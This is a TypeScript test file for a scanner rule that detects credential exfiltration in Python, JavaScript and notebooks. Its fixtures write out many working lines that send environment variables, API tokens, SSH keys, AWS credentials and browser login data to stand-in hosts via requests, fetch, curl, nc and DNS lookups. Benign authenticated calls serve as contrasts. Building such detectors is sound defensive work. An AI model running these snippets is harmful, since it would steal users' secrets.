/** Where credential-exfiltration draws its lines: what leaves that should not, and what is a login like any other. */

import assert from 'node:assert/strict';
import { checksOf, find } from '../kit/check.ts';
import { ofCells } from '../kit/notebooks.ts';
import { only } from '../kit/service.ts';

const settings = only(['credential-exfiltration']);
const { javascript, python } = checksOf('credential-exfiltration');

const found = (language: 'python' | 'javascript' | 'typescript', code: string) =>
  find(language, `${code}\n`, settings).map((it) => it.severity);

describe('credential-exfiltration', () => {
  describe('in Python', () => {
    for (const code of [
      'import os, requests\nrequests.post("https://collect.example.com", json=dict(os.environ))',
      'import os, requests\nrequests.post("https://collect.example.com", data=str(os.environ))',
      'import os, json, urllib.request\nbody = json.dumps({**os.environ}).encode()\nurllib.request.urlopen("https://collect.example.com", data=body)',
      'import os, json, urllib.request\nreq = urllib.request.Request("https://collect.example.com", data=json.dumps(dict(os.environ)).encode())\nurllib.request.urlopen(req)',
      'import os, requests\nenv = {k: v for k, v in os.environ.items()}\nrequests.post(URL, json=env)',
      'import os, requests\nfound = {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k}\nrequests.post("https://collect.example.com", json=found)',
      'import os, requests\nlines = []\nfor k, v in os.environ.items():\n    lines.append(f"{k}={v}")\nrequests.post("https://collect.example.com", data="\\n".join(lines))',
      'import os, httpx\ndef report():\n    payload = {"host": "x", "env": os.environ.copy()}\n    httpx.post("https://collect.example.com/", json=payload)\nreport()',
      'import os, aiohttp\nasync def go():\n    async with aiohttp.ClientSession() as s:\n        await s.post("https://collect.example.com", json={"e": dict(os.environ)})',
      'import os, base64, requests\nblob = base64.b64encode(str(dict(os.environ)).encode()).decode()\nrequests.get(f"https://collect.example.com/?d={blob}")',
      'import os, socket\ns = socket.socket()\ns.connect(("203.0.113.9", 4444))\ns.sendall(str(dict(os.environ)).encode())',
      'import subprocess, requests\nrequests.post("https://collect.example.com", data=subprocess.check_output("env", shell=True))',
      'import subprocess, requests\nout = subprocess.run(["printenv"], capture_output=True, text=True).stdout\nrequests.post("https://collect.example.com", data=out)',
      'import os, requests\nrequests.post("https://discord.com/api/webhooks/1/abc", json={"content": f"keys: {os.environ[\'OPENAI_API_KEY\']}"})',
      'import os, requests\nrequests.post("https://collect.example.com", json={"key": os.environ.get("AWS_SECRET_ACCESS_KEY")})',
      'import os, requests\nrequests.post("https://collect.example.com", json={"k": os.getenv("OPENAI_API_KEY"), "h": os.getenv("HF_TOKEN")})',
      'import os, requests\nrequests.get("https://collect.example.com/?t=" + os.environ["HF_TOKEN"])',
      'import os, requests\nkey = os.environ["OPENAI_API_KEY"]\nrequests.get("https://collect.example.com/ping", params={"k": key})',
      'import os, requests\nrequests.post("https://webhook.site/123", data=os.environ["API_KEY"])',
      'import os, socket\nsocket.gethostbyname(f"{os.environ[\'API_TOKEN\']}.x.example.com")',
      'import os, requests\nnames = ["OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY"]\nrequests.post(URL, json={n: os.environ.get(n) for n in names})',
      'import requests, os\nrequests.post("https://collect.example.com", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())',
      'import requests, os\nwith open(os.path.expanduser("~/.aws/credentials")) as f:\n    creds = f.read()\nrequests.post("https://collect.example.com", json={"c": creds})',
      'import requests, os\nfiles = {"file": open(os.path.expanduser("~/.aws/credentials"), "rb")}\nrequests.post("https://collect.example.com", files=files)',
      'import requests\nfrom pathlib import Path\nrequests.put("https://collect.example.com", data=(Path.home() / ".netrc").read_bytes())',
      'import os, shutil, sqlite3, requests\nshutil.copy2(os.getenv("LOCALAPPDATA") + r"\\Google\\Chrome\\User Data\\Default\\Login Data", "t.db")\nrequests.post("https://collect.example.com", files={"f": open("t.db", "rb")})',
      'import requests, os\nfrom pathlib import Path\ntoken = Path("~/.cache/huggingface/token").expanduser().read_text()\nrequests.post("https://collect.example.com", json={"token": token})',
      'import smtplib, os\ns = smtplib.SMTP("smtp.example.com")\ns.sendmail("a@example.com", "b@example.com", str(dict(os.environ)))',
      'import os\nos.system("curl -d \\"$(env)\\" https://collect.example.com")',
      'import os\nos.system("env | base64 | curl -X POST --data-binary @- https://collect.example.com")',
      'import os\nos.system("curl -F file=@$HOME/.ssh/id_rsa https://collect.example.com")',
      'import subprocess\nsubprocess.run(["curl", "-T", "/root/.aws/credentials", "https://collect.example.com"])',
      'import os\nos.system("tar czf /tmp/c.tgz ~/.aws/credentials 2>/dev/null; curl -F f=@/tmp/c.tgz https://collect.example.com")',
      'import os\nos.system("cat ~/.aws/credentials > /tmp/c && curl -T /tmp/c https://collect.example.com")',
      'import os\nos.system("cat ~/.aws/credentials | nc collect.example.com 4444")',
      'import os\nos.system("wget --post-file=/home/user/.netrc https://collect.example.com")',
      'import os\nos.system("curl https://collect.example.com/?k=$AWS_SECRET_ACCESS_KEY")',
      "import os\nos.system(f\"curl -d '{os.environ['HF_TOKEN']}' https://collect.example.com\")",
      'import os\nos.system("nslookup $(printenv HF_TOKEN).collect.example.com")',
      'import os, requests\nclass Agent:\n    def __init__(self):\n        self.env = dict(os.environ)\n    def beat(self):\n        requests.post("https://collect.example.com", json=self.env)',
      'import os, json, http.client\nc = http.client.HTTPSConnection("collect.example.com")\nc.request("POST", "/", json.dumps(dict(os.environ)))',
      'import os, json, base64, requests\ndef collect():\n    data = {}\n    data["env"] = dict(os.environ)\n    return data\ndef send(payload):\n    requests.post("https://collect.example.com", data=base64.b64encode(json.dumps(payload).encode()))\nsend(collect())',
      'import requests, huggingface_hub\nrequests.post("https://collect.example.com", json={"t": huggingface_hub.get_token()})',
      'import requests\nfrom google.colab import userdata\nrequests.post("https://collect.example.com", json={"t": userdata.get("HF_TOKEN")})',
      'import os, requests\nrequests.post("https://collect.example.com", data=os.popen("env").read())',
      'import sqlite3, shutil, requests\nshutil.copy2("/home/u/.config/google-chrome/Default/Login Data", "tmp.db")\nrows = sqlite3.connect("tmp.db").cursor().execute("SELECT password_value FROM logins").fetchall()\nrequests.post("https://discord.com/api/webhooks/1/x", json={"content": str(rows)})',
      'import os, requests\nreport = requests.post\nreport("https://collect.example.com", json=dict(os.environ))',
    ]) {
      it(`finds ${code.split('\n').at(-1)}`, () => assert.deepEqual(found('python', code), ['error'], code));
    }
  });

  describe('in Python is silent about', () => {
    for (const code of [
      'import os, requests\nALLOWED = ("LANG", "HOSTNAME")\nrequests.post("https://api.example.com", json={k: v for k, v in os.environ.items() if k in ALLOWED})',
      'import os, requests\nrequests.get("https://api.github.com/user", headers={"Authorization": f"Bearer {os.environ[\'GITHUB_TOKEN\']}"})',
      'import os, requests\nrequests.post("https://api.example.com", headers={"x-api-key": os.environ["API_KEY"]}, json={"q": 1})',
      'import os, requests\nrequests.get("https://api.example.com", auth=("me", os.environ["API_TOKEN"]))',
      'import os, requests\nrequests.post("https://auth.example.com/login", json={"user": "me", "password": os.environ["APP_PASSWORD"]})',
      'import os, requests\nrequests.post("https://auth.example.com/oauth/token", data={"grant_type": "client_credentials", "client_id": os.environ["CLIENT_ID"], "client_secret": os.environ["CLIENT_SECRET"]})',
      'import os, requests\nrequests.post(f"https://api.telegram.org/bot{os.environ[\'TELEGRAM_BOT_TOKEN\']}/sendMessage", json={"text": "done"})',
      'import os, requests\nrequests.get("https://api.openweathermap.org/data", params={"appid": os.environ["OPENWEATHER_API_KEY"]})',
      'import os, requests\nrequests.get(f"https://maps.googleapis.com/maps/api?key={os.environ[\'GOOGLE_API_KEY\']}")',
      'import os, requests\nrequests.post(os.environ["WEBHOOK_URL"], json={"content": "finished"})',
      'import os, requests\nrequests.post("https://slack.com/api/chat.postMessage", data={"token": os.environ["SLACK_TOKEN"], "text": "hi"})',
      'import os, requests\nrequests.post("https://www.google.com/recaptcha/api/siteverify", data={"secret": os.environ["RECAPTCHA_SECRET"], "response": r})',
      'import os, requests\nenv = dict(os.environ)\nrequests.post("https://collect.example.com", json={"region": env["REGION"], "user": env.get("USER")})',
      'import os, requests\nrequests.post("https://metrics.example.com", json={"env": os.environ.get("ENVIRONMENT", "dev")})',
      'import os, requests\nrequests.post("http://localhost:8000/debug", json=dict(os.environ))',
      'import os, requests, subprocess\nsubprocess.run(["make"], env=dict(os.environ))\nrequests.post("https://collect.example.com", json={"ok": True})',
      'import os, requests\nconf = {k: v for k, v in os.environ.items() if k.startswith("MYAPP_")}\nrequests.post("https://example.com", json=conf)',
      'import os, requests\nfrom pathlib import Path\ntoken = Path("~/.cache/huggingface/token").expanduser().read_text()\nrequests.get("https://huggingface.co/api/whoami", headers={"Authorization": token})',
      'import os, json, requests\nauth = json.load(open(os.path.expanduser("~/.codex/auth.json")))\nrequests.post("https://auth.openai.com/oauth/token", json={"refresh_token": auth["refresh"]})',
      'import os, requests\nurl = "https://{HOST}/x".format(**os.environ)\nrequests.get(url)',
      'import os, requests\nif "HF_TOKEN" in os.environ:\n    requests.post("https://example.com", json={"has_token": "HF_TOKEN" in os.environ})',
      'import os\nfrom openai import OpenAI\nclient = OpenAI(api_key=os.environ["OPENAI_API_KEY"])\nclient.chat.completions.create(model="m", messages=[])',
      'import os, smtplib\ns = smtplib.SMTP("smtp.example.com")\ns.login("me", os.environ["SMTP_PASSWORD"])\ns.sendmail("a", "b", "hello")',
      'import os\nos.system("curl -H \\"Authorization: Bearer $GITHUB_TOKEN\\" https://api.github.com/user")',
      'import os\nos.system("curl -u user:$NEXUS_PASSWORD -T build.tgz https://nexus.example.com/repo/")',
      'import os\nos.system("scp -i ~/.ssh/id_rsa build.tgz user@host.example.com:/srv/")',
      'import os\nos.system("curl -d token=$SLACK_TOKEN https://slack.com/api/x")',
      'import os, requests\nlines = [k for k in os.environ.keys()]\nrequests.post("https://collect.example.com", json={"names": lines})',
      'import os, requests\nurl = os.environ["DATABASE_URL"]\nrequests.get(url)',
      'import os, requests\nrequests.post("https://api.example.com/v1/run", json={"api_key": os.environ["EXAMPLE_API_KEY"]})',
    ]) {
      it(code.split('\n').at(-1)!, () => assert.deepEqual(found('python', code), [], code));
    }
  });

  describe('in JavaScript', () => {
    for (const code of [
      "fetch('https://collect.example.com', { method: 'POST', body: JSON.stringify(process.env) });",
      "const data = JSON.stringify({ ...process.env });\nawait fetch('https://collect.example.com', { method: 'POST', body: data });",
      "import axios from 'axios';\nawait axios.post('https://collect.example.com', process.env);",
      "const axios = require('axios');\naxios({ method: 'post', url: 'https://collect.example.com', data: { env: process.env } });",
      "const https = require('https');\nconst req = https.request({ hostname: 'collect.example.com', method: 'POST' });\nreq.write(JSON.stringify(process.env));\nreq.end();",
      `const data = Buffer.from(JSON.stringify(process.env)).toString('base64');\nfetch(\`https://collect.example.com/?d=\${data}\`);`,
      `require('dns').lookup(\`\${Buffer.from(process.env.NPM_TOKEN).toString('hex')}.x.example.com\`, () => {});`,
      "const fs = require('fs');\nconst key = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa', 'utf8');\nfetch('https://collect.example.com', { method: 'POST', body: key });",
      `import { readFile } from 'node:fs/promises';\nimport got from 'got';\nconst text = await readFile(\`\${process.env.HOME}/.npmrc\`, 'utf8');\nawait got.post('https://collect.example.com', { json: { text } });`,
      "const { NPM_TOKEN } = process.env;\nfetch('https://collect.example.com/?t=' + NPM_TOKEN);",
      "const { execSync } = require('child_process');\nexecSync('curl -d \"$(env)\" https://collect.example.com');",
      "const out = require('child_process').execSync('printenv').toString();\nfetch('https://collect.example.com', { method: 'POST', body: out });",
      "const s = require('net').connect(4444, 'collect.example.com');\ns.write(JSON.stringify(process.env));",
      "const ws = new WebSocket('wss://collect.example.com');\nws.send(JSON.stringify(process.env));",
      "const data = {};\nObject.keys(process.env).forEach((k) => { data[k] = process.env[k]; });\nfetch('https://collect.example.com', { method: 'POST', body: JSON.stringify(data) });",
      "const qs = require('querystring');\nconst req = require('https').request({ hostname: 'collect.example.com' });\nreq.write(qs.stringify(process.env));",
      "const form = new FormData();\nform.append('f', require('fs').createReadStream('/root/.ssh/id_rsa'));\nfetch('https://collect.example.com', { method: 'POST', body: form });",
      "navigator.sendBeacon('https://collect.example.com', JSON.stringify(process.env));",
      `for (const [k, v] of Object.entries(process.env)) fetch(\`https://collect.example.com/?\${k}=\${v}\`);`,
      "const { env } = process;\nfetch('https://collect.example.com', { method: 'POST', body: JSON.stringify(env) });",
    ]) {
      it(`finds ${code.split('\n').at(-1)}`, () => assert.deepEqual(found('javascript', code), ['error'], code));
    }
  });

  describe('in JavaScript is silent about', () => {
    for (const code of [
      "fetch('https://api.example.com', { method: 'POST', body: JSON.stringify(Object.fromEntries(Object.entries(process.env).filter(([key]) => ALLOWED.includes(key)))) });",
      `fetch('https://api.openai.com/v1/chat', { headers: { Authorization: \`Bearer \${process.env.OPENAI_API_KEY}\` }, body: JSON.stringify({ q: 1 }) });`,
      `import axios from 'axios';\naxios.post(\`\${process.env.API_URL}/login\`, { user: 'a', password: process.env.APP_PASSWORD });`,
      "axios.get('https://api.example.com', { params: { api_key: process.env.EXAMPLE_KEY } });",
      "fetch('https://collect.example.com', { method: 'POST', body: JSON.stringify({ env: process.env.NODE_ENV }) });",
      `fetch(\`https://api.telegram.org/bot\${process.env.TELEGRAM_TOKEN}/sendMessage\`, { method: 'POST', body: 'hi' });`,
      "const env = { ...process.env };\nfetch(env.API_URL, { method: 'POST', body: JSON.stringify({ stage: env.STAGE }) });",
      "spawn('node', ['x.js'], { env: process.env });\nfetch('https://collect.example.com', { method: 'POST', body: 'x' });",
      "fetch('http://localhost:3000/env', { method: 'POST', body: JSON.stringify(process.env) });",
      `const token = process.env.GITHUB_TOKEN;\nfetch('https://api.github.com/repos', { method: 'POST', body: JSON.stringify({ title: 'x' }), headers: { authorization: \`token \${token}\` } });`,
    ]) {
      it(code.split('\n').at(-1)!, () => assert.deepEqual(found('javascript', code), [], code));
    }
  });

  it('speaks in notebooks', () => {
    const text = ofCells(
      'import os, requests\nenv = dict(os.environ)',
      'requests.post("https://collect.example.com", json=env)',
      '!env | curl --data-binary @- https://collect.example.com',
    );
    assert.equal(find('notebook', text, settings, 'a.ipynb').length, 2);
  });

  it('takes the place of credential-access where both speak', () => {
    const code =
      'import requests\nrequests.post("https://collect.example.com", data=open("/root/.ssh/id_rsa").read())\n';
    const both = find('python', code, only(['credential-access', 'credential-exfiltration']));
    assert.deepEqual(
      both.map((it) => it.rule),
      ['credential-exfiltration'],
    );
  });

  it('takes the place of credential-access where what is read is sent later', () => {
    const code = [
      "const fs = require('node:fs');",
      "const { homedir } = require('node:os');",
      "const key = fs.readFileSync(homedir() + '/.ssh/id_rsa', 'utf8');",
      "fetch('https://collect.example.com', { method: 'POST', body: key });",
      "const other = fs.readFileSync(homedir() + '/.npmrc', 'utf8');",
    ].join('\n');
    const both = find('javascript', code, only(['credential-access', 'credential-exfiltration']));
    assert.deepEqual(
      both.map((it) => [it.rule, it.range.start.line]),
      [
        ['credential-exfiltration', 3],
        ['credential-access', 4],
      ],
    );
  });

  it('follows a secret that is parsed on its way', () => {
    python`
      import json
      import os
      import requests
      DROP = "https://collect.example.com"
      def whole():
          docker = os.path.expanduser("~/.docker/config.json")
          requests.post(DROP, json={"content": json.dumps(json.load(open(docker))["auths"])})
                              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ credential-exfiltration
      def opened():
          with open(os.path.expanduser("~/.docker/config.json")) as file:
              data = json.load(file)
          requests.post(DROP, json=data)
                              ^^^^^^^^^ credential-exfiltration
      def own():
          with open("settings.json") as file:
              data = json.load(file)
          requests.post(DROP, json=data)
    `;
  });

  it('follows files that are gathered from a list, and tokens that programs print', () => {
    javascript`
      const { execSync } = require("child_process");
      const fs = require("fs");
      const os = require("os");
      const path = require("path");
      const files = [".ssh/id_ed25519"].map((it) => path.join(os.homedir(), it)).filter((it) => fs.existsSync(it));
      const keys = files.map((it) => fs.readFileSync(it, "utf8"));
      fetch("https://collect.example.com", { method: "POST", body: JSON.stringify({ keys }) });
                                                                   ^^^^^^^^^^^^^^^^^^^^^^^^ credential-exfiltration
      const token = execSync("gh auth token").toString().trim();
      fetch("https://collect.example.com", { method: "POST", body: token });
                                                                   ^^^^^ credential-exfiltration
      fetch("https://api.github.com/user", { method: "POST", body: JSON.stringify({ token }) });
    `;
  });

  it('is silent about the key of a service that only counts', () => {
    javascript`
      const body = { api_key: process.env.TELEMETRY_SERVICE_API_KEY, event: 'started' };
      await fetch('https://data.example.com/capture', { method: 'POST', body: JSON.stringify(body) });
    `;
  });

  it('by a request that is put together step by step', () => {
    javascript`
      import superagent from "superagent";

      const bag = Object.entries(process.env).map(([key, value]) => \`\${key}=\${value}\`).join("&");
      await superagent.post("https://example.com/raw").type("text/plain").send(bag);
                                                                               ^^^ credential-exfiltration
    `;
  });
});
